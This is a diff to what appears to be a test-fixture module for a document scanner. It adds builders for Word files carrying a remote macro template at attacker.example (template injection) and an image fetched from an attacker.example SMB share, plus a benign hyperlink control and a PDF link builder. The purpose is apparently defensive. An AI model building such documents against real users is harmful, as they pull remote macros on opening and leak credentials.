@@ -352,3 +352,54 @@ def pdf_object_stream_bomb(inflated: int = 20 * 1024 * 1024) -> bytes:
     )
     parts.append(b"startxref\n%d\n%%%%EOF\n" % offsets[3])
     return b"".join(parts)
+
+
+RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def _relationships(kind: str, target: str) -> bytes:
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/{kind}" Target="{target}"'
+        ' TargetMode="External"/></Relationships>'
+    ).encode()
+
+
+def docx_with_remote_template() -> bytes:
+    """Template injection: Word fetches the template, macros and all, when it opens."""
+    return _docx_with(
+        (
+            "word/_rels/settings.xml.rels",
+            _relationships("attachedTemplate", "https://attacker.example/t.dotm"),
+        )
+    )
+
+
+def docx_with_remote_image() -> bytes:
+    return _docx_with(
+        (
+            "word/_rels/document.xml.rels",
+            _relationships("image", "file://///attacker.example/share/pixel.png"),
+        )
+    )
+
+
+def docx_with_a_web_link() -> bytes:
+    return _docx_with(
+        (
+            "word/_rels/document.xml.rels",
+            _relationships("hyperlink", "https://example.org/portfolio"),
+        )
+    )
+
+
+def pdf_link_to(uri: bytes) -> bytes:
+    return build_pdf(
+        (
+            b"<</Type/Catalog/Pages 2 0 R>>",
+            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[4 0 R]>>",
+            b"<</Type/Annot/Subtype/Link/Rect[0 0 100 100]/A<</S/URI/URI(" + uri + b")>>>>",
+        )
+    )
